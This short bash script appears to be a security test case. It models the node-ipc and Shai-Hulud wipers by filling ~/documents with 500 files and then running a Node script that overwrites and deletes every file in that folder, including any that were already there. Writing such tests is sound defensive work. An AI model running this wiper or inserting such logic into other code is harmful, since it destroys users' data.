#!/bin/bash
# Models node-ipc 10.1 (2022-03) and Shai-Hulud 2.0 (2025-11): files outside the workspace are overwritten and removed.
# must: impact/mass-destruction
# gate: fail
mkdir -p ~/documents && for number in $(seq 500); do echo "work $number" > ~/documents/$number.txt; done
cat > /tmp/wipe.js <<'JS'
const fs = require("fs");
const directory = `${process.env.HOME}/documents`;
for (const name of fs.readdirSync(directory)) {
    fs.writeFileSync(`${directory}/${name}`, "\u2764");
    fs.unlinkSync(`${directory}/${name}`);
}
JS
node /tmp/wipe.js
